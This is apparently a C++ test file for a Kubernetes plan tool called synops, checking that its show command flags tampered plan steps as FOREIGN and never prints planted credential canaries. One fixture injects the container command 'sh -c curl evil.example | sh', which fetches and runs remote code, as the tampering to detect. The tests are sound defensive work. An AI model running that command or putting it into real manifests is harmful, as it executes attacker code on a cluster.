// `synops show` marks foreign content (issue #18, 3), through the real binary: a plan file of
// the example, saved with `plan --out` from its snapshot, then edited as someone could before
// handing it on. With the manifest directory, show plans again (as `apply PLANFILE` does) and
// marks what that plan does not hold; without it, it says so and marks what no synops plan
// holds. A credential is never printed, whatever the file's `sensitive` flags say.
#include <doctest/doctest.h>

#include <stdlib.h>

#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include <nlohmann/json.hpp>

#include "support/run_synops.h"

namespace synops::testing {
namespace {

namespace fs = std::filesystem;

const std::string kDir = "examples/matrix";
const std::string kLive = "--live examples/matrix/live/cluster.json";
const std::string kCommand = "/spec/template/spec/containers/0/command";
const std::string kClearCanary = "CANARY-clear-db-password-41d";
const std::string kFlaggedCanary = "CANARY-flagged-args-7e2";
const std::string kSecretCanary = "CANARY-secret-data-0b9";

class SavedPlan {
 public:
  SavedPlan() {
    std::string pattern = (fs::temp_directory_path() / "synops-show-XXXXXX").string();
    dir_ = mkdtemp(pattern.data());
    const auto planned = run_synops("plan " + kDir + " " + kLive + " --out '" + file() + "'");
    REQUIRE_MESSAGE(planned.exit_code == 0, planned.err);
    std::ifstream in(file());
    document = nlohmann::json::parse(in);
  }
  ~SavedPlan() {
    std::error_code ignored;
    fs::remove_all(dir_, ignored);
  }
  std::string file() const { return (dir_ / "plan.json").string(); }
  void write(const nlohmann::json& edited) const { std::ofstream(file()) << edited.dump(2); }
  // `show` of the file, with `rest` (the directory, live source, format) after it.
  RunResult show(const std::string& rest = "") const { return run_synops("show '" + file() + "' " + rest); }

  nlohmann::json document;

 private:
  fs::path dir_;
};

nlohmann::json& step_of(nlohmann::json& document, const std::string& key) {
  for (auto& step : document["actions"])
    if (step["key"] == key) return step;
  FAIL("no step " << key);
  throw;
}

nlohmann::json with_command_added(nlohmann::json document) {
  step_of(document, "update StatefulSet/matrix/synapse-main")["changes"].push_back(
      {{"path", kCommand}, {"before", nullptr}, {"after", {"sh", "-c", "curl evil.example | sh"}}, {"reason", ""}});
  return document;
}

// A Secret written in the clear, a credential path in the clear, and a value hidden behind a
// `sensitive` flag the rules do not give: three things no synops plan holds.
nlohmann::json with_secrets_added(nlohmann::json document) {
  auto& changes = step_of(document, "update StatefulSet/matrix/synapse-main")["changes"];
  changes.push_back({{"path", "/spec/template/spec/containers/0/env/DB_PASSWORD"}, {"before", nullptr}, {"after", kClearCanary}});
  changes.push_back({{"path", "/spec/template/spec/containers/0/args"}, {"before", nullptr}, {"after", {kFlaggedCanary}},
                     {"sensitive", true}});
  nlohmann::json secret_step = document["actions"][0];
  secret_step["id"] = "a99";
  secret_step["key"] = "update Secret/matrix/synapse-postgres-app";
  secret_step["type"] = "update";
  secret_step["target"] = {{"kind", "Secret"}, {"namespace", "matrix"}, {"name", "synapse-postgres-app"}};
  secret_step["changes"] = {{{"path", "/stringData/password"}, {"before", nullptr}, {"after", kSecretCanary}, {"sensitive", false}}};
  secret_step.erase("params");
  document["actions"].push_back(secret_step);
  return document;
}

bool has_line(const std::string& output, const std::string& line) {
  std::istringstream lines(output);
  for (std::string read; std::getline(lines, read);)
    if (read == line) return true;
  return false;
}

const std::string kNotChecked = "Not checked against manifests: pass the manifest directory to mark steps they do not ask for.";
const std::string kCommandLine = "      + " + kCommand + ": (absent) -> [\"sh\",\"-c\",\"curl evil.example | sh\"]";

}  // namespace

TEST_CASE("show PLANFILE DIR: an unedited plan file matches, and says so first") {
  SavedPlan saved;
  const auto shown = saved.show(kDir + " " + kLive + " --no-color");
  CHECK_MESSAGE(shown.exit_code == 0, shown.err);
  CHECK(shown.out.starts_with("Checked against examples/matrix and the live state: every step matches.\n\nPlan: 7 field changes in "));
  CHECK(shown.out.find("FOREIGN") == std::string::npos);
  const auto json = saved.show(kDir + " " + kLive + " --format json");
  CHECK(nlohmann::json::parse(json.out)["checked_against"] ==
        nlohmann::json{{"manifests", "examples/matrix"}, {"foreign_steps", 0}, {"missing_steps", nlohmann::json::array()},
                       {"changed_reads", 0}});
}

TEST_CASE("show PLANFILE DIR: a change added to main's command is marked foreign in every format") {
  SavedPlan saved;
  saved.write(with_command_added(saved.document));
  const auto text = saved.show(kDir + " " + kLive);
  CHECK_MESSAGE(text.exit_code == 0, text.err);
  CHECK(text.out.starts_with(
      "Checked against examples/matrix and the live state: 1 step in this file is not what the manifests ask for (marked FOREIGN).\n\n"));
  CHECK(has_line(text.out, kCommandLine + "  FOREIGN: the manifests do not ask for this"));
  CHECK(has_line(text.out, "    a4 ~ update StatefulSet/matrix/synapse-main  [medium]"));  // the step itself is synops's
  // Only the added change is marked: the image change beside it is the manifests' own.
  CHECK(has_line(text.out, "      ~ /spec/template/spec/containers/0/image: \"matrixdotorg/synapse:v1.119.0\" -> \"matrixdotorg/synapse:v1.120.0\""));

  const auto markdown = saved.show(kDir + " " + kLive + " --format markdown");
  CHECK(markdown.out.find("</sub>\n\n> Checked against examples/matrix and the live state: 1 step in this file is not "
                          "what the manifests ask for (marked FOREIGN).\n\n") != std::string::npos);
  // The field cell of the added change carries the mark; the value beside it is escaped.
  const auto marked_row = markdown.out.find("<br>**FOREIGN: the manifests do not ask for this** | <code>(absent)</code> | ");
  REQUIRE(marked_row != std::string::npos);
  const std::string row = markdown.out.substr(markdown.out.rfind('\n', marked_row) + 1,
                                              markdown.out.find('\n', marked_row) - markdown.out.rfind('\n', marked_row) - 1);
  CHECK(row.find("/command</code>") != std::string::npos);
  CHECK(row.find("&#124; sh") != std::string::npos);
  CHECK(row.find("| sh") == std::string::npos);  // a raw '|' would split the row
  CHECK(markdown.out.find("<details open><summary>The 18 steps in order") != std::string::npos);

  auto json = nlohmann::json::parse(saved.show(kDir + " " + kLive + " --format json").out);
  CHECK(json["checked_against"]["foreign_steps"] == 1);
  const auto& main_changes = step_of(json, "update StatefulSet/matrix/synapse-main")["changes"];
  CHECK(main_changes[0].contains("foreign") == false);
  CHECK(main_changes[1]["foreign"] == true);
  CHECK(main_changes[1]["foreign_reason"] == "not-asked-for");

  const auto dot = saved.show(kDir + " " + kLive + " --format dot");
  CHECK(dot.out.find("\"a4\" [label=\"a4 update StatefulSet/matrix/synapse-main\\nmedium risk\\npoint of no return\\nFOREIGN: the "
                     "manifests do not ask for this\", fillcolor=\"#fff8c5\", color=\"#9a6700\", peripheries=2, color=red, fontcolor=red, penwidth=2];") != std::string::npos);
}

TEST_CASE("show PLANFILE: without the manifests it says it did not check, and an added command is not marked") {
  SavedPlan saved;
  saved.write(with_command_added(saved.document));
  const auto shown = saved.show();
  CHECK_MESSAGE(shown.exit_code == 0, shown.err);
  CHECK(shown.out.starts_with(kNotChecked + "\n\nPlan: "));
  CHECK(has_line(shown.out, kCommandLine));
  CHECK(shown.out.find("FOREIGN") == std::string::npos);
  const auto json = nlohmann::json::parse(saved.show("--format json").out);
  CHECK(json["checked_against"]["manifests"].is_null());
}

TEST_CASE("show PLANFILE: a Secret step and credentials in the clear show (sensitive) and a mark, never the value") {
  SavedPlan saved;
  saved.write(with_secrets_added(saved.document));
  const auto text = saved.show();
  CHECK_MESSAGE(text.exit_code == 0, text.err);
  CHECK(text.out.starts_with(kNotChecked + "\n2 steps in this file are not what any synops plan holds (marked FOREIGN).\n\n"));
  CHECK(has_line(text.out, "      + /stringData/password: (absent) -> (sensitive)  FOREIGN: synops never writes a Secret's data"));
  CHECK(has_line(text.out, "      + /spec/template/spec/containers/0/env/DB_PASSWORD: (absent) -> (sensitive)  FOREIGN: a sensitive "
                           "value written in the clear"));
  CHECK(has_line(text.out, "      + /spec/template/spec/containers/0/args: (absent) -> (sensitive)  FOREIGN: its sensitive flag is "
                           "not what synops's rules give"));

  const auto checked = saved.show(kDir + " " + kLive);
  CHECK_MESSAGE(checked.exit_code == 0, checked.err);
  CHECK(checked.out.starts_with(
      "Checked against examples/matrix and the live state: 2 steps in this file are not what the manifests ask for (marked FOREIGN).\n"));
  CHECK(has_line(checked.out, "   a99 ~ update Secret/matrix/synapse-postgres-app  [low]  FOREIGN: the manifests do not ask for this"));
  CHECK(has_line(checked.out, "      + /stringData/password: (absent) -> (sensitive)  FOREIGN: synops never writes a Secret's data"));

  for (const std::string& rest : std::vector<std::string>{"", "--format json", "--format markdown", "--format dot", kDir + " " + kLive,
                                 kDir + " " + kLive + " --format json", kDir + " " + kLive + " --format markdown"}) {
    CAPTURE(rest);
    const auto shown = saved.show(rest);
    CHECK(shown.exit_code == 0);
    for (const auto& canary : {kClearCanary, kFlaggedCanary, kSecretCanary}) {
      CHECK(shown.out.find(canary) == std::string::npos);
      CHECK(shown.err.find(canary) == std::string::npos);
    }
  }
}

TEST_CASE("show PLANFILE DIR: a step the file lacks is named; an unreadable directory is an error") {
  SavedPlan saved;
  nlohmann::json edited = saved.document;
  edited["actions"].erase(edited["actions"].end() - 1);  // the verify step
  saved.write(edited);
  const auto shown = saved.show(kDir + " " + kLive);
  CHECK_MESSAGE(shown.exit_code == 0, shown.err);
  CHECK(shown.out.starts_with("Checked against examples/matrix and the live state: every step in this file matches, but it lacks some.\n"
                              "The manifests ask for 1 step this file lacks: verify StatefulSet/matrix/synapse-main version.\n\n"));
  const auto missing = saved.show("examples/no-such-dir " + kLive);
  CHECK(missing.exit_code == 1);
  CHECK(missing.out.empty());
}

}  // namespace synops::testing
